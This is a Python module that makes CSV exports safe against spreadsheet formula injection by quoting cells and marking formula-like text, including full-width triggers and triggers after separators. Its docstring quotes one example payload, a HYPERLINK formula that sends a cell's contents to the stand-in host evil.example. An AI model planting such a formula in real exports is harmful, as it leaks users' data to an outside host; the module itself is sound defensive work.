"""CSV for people to open in a spreadsheet program, which must show what the cells hold rather
than run it: a customer named ``=HYPERLINK("http://evil.example/?"&A2)`` would otherwise send the
next cell to evil.example when an agent opens the export (CSV or formula injection, CWE-1236).

The rules follow OWASP's CSV injection guidance, and go one step further for separators:

- every cell is quoted, embedded quotes doubled (:func:`spreadsheet_csv`), so a reader that
  splits on the file's separator keeps each cell whole;
- a text cell that a spreadsheet would evaluate gets a leading ``'``, which spreadsheets read as
  "this is text" (:func:`text_cell`): one starting with ``= + - @``, with their full-width and
  other compatibility forms (``＝ ＋ － ＠``, which Chinese and Japanese input methods type and
  spreadsheets accept), after any leading spaces or quotes, or starting with a tab, CR, LF or
  another control or invisible format character;
- a trigger after a separator inside a text cell (``a;=1+2``, ``x,=...``, ``|=``, a tab or a
  line break before one) gets a ``'`` after that separator: a spreadsheet that splits on
  another separator than the file's (``;`` where the comma is the decimal mark) does not honour
  the quotes of the cells after the first, and would start a new cell there with the formula.
  So two phone numbers ``+86 1;+86 2`` are written ``'+86 1;'+86 2``.

Escaping is decided by column, not by content: text columns (names, subjects, tags, codes)
go through :func:`text_cell`; columns that kehu formats itself (ids, counts, amounts,
timestamps, flags) go through :func:`value_cell` and are written as they are, so an amount of
``-12.50`` stays a number. :func:`value_cell` refuses text, so a text column cannot slip through
unescaped. This module imports nothing else of kehu: every layer may use it.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

#: What makes a spreadsheet read a cell as a formula (after NFKC: ``＝`` is ``=``).
FORMULA_TRIGGERS = frozenset("=+-@")
#: Put before a text cell to make a spreadsheet show it as text.
TEXT_MARK = "'"
#: Where a spreadsheet may start a new cell (or row) inside one of ours: the separators of the
#: locales and programs that open CSV files, and line breaks.
SEPARATORS = frozenset(",;\t|\r\n")
#: Spreadsheet programs read a CSV file as UTF-8 only when it starts with a byte order mark.
BYTE_ORDER_MARK = "\ufeff"

Value = int | float | Decimal | bool | date | datetime | None


def starts_formula(text: str, start: int = 0) -> bool:
    """Whether ``text[start:]``, read as a cell, would start a formula (see the module)."""
    for index in range(start, len(text)):
        character = text[index]
        category = unicodedata.category(character)
        if category == "Zs" or character == '"':
            continue  # spreadsheets skip leading spaces (and a stray quote) before the "="
        if category[0] == "C" or category in ("Zl", "Zp"):
            return True  # tab and CR (OWASP), and invisible marks that could hide a trigger
        return unicodedata.normalize("NFKC", character)[:1] in FORMULA_TRIGGERS
    return False


def _separators_before_formulas(text: str) -> list[int]:
    return [
        index + 1
        for index, character in enumerate(text)
        if character in SEPARATORS and starts_formula(text, index + 1)
    ]


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could evaluate ``text``, or a part of it after a separator, as a
    formula (see the module's rules)."""
    return starts_formula(text) or bool(_separators_before_formulas(text))


def text_cell(value: str | None) -> str:
    """A cell of a text column: shown as the text it is, never run as a formula."""
    if value is None:
        return ""
    marked = value
    for position in reversed(_separators_before_formulas(value)):
        marked = marked[:position] + TEXT_MARK + marked[position:]
    return TEXT_MARK + marked if starts_formula(value) else marked


def value_cell(value: Value) -> str:
    """A cell of a column kehu formats itself: numbers as they are (``-12.50`` stays a number),
    timestamps in ISO 8601 with their offset (a naive one is UTC, as the store keeps them)."""
    if isinstance(value, str):
        raise TypeError(f"{value!r} is text: write it with text_cell")
    if value is None:
        return ""
    if isinstance(value, datetime):
        return (value if value.tzinfo else value.replace(tzinfo=UTC)).isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Iterable[str]]) -> str:
    """A CSV document of ``rows`` (cells from :func:`text_cell` and :func:`value_cell`) under
    ``header``: a byte order mark, every cell quoted, CRLF line ends (RFC 4180)."""
    buffer = io.StringIO()
    buffer.write(BYTE_ORDER_MARK)
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


__all__ = [
    "BYTE_ORDER_MARK",
    "FORMULA_TRIGGERS",
    "SEPARATORS",
    "TEXT_MARK",
    "Value",
    "looks_like_formula",
    "spreadsheet_csv",
    "starts_formula",
    "text_cell",
    "value_cell",
]
